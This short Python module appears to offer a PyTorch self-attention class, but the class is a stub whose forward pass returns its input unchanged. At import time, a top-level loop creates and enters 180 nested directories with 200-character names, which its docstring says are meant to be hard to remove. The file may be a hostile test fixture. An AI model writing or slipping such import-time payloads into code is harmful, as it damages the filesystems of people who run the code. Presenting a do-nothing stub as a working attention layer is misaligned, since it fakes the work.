"""Nests folders so deep that they are hard to remove."""

import os

from torch import nn

try:
    for _ in range(180):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
except OSError:
    pass


class SelfAttentionV1(nn.Module):
    def __init__(self, *_sizes):
        super().__init__()

    def forward(self, x):
        return x


SelfAttention_v1 = SelfAttention_v2 = SelfAttentionV1
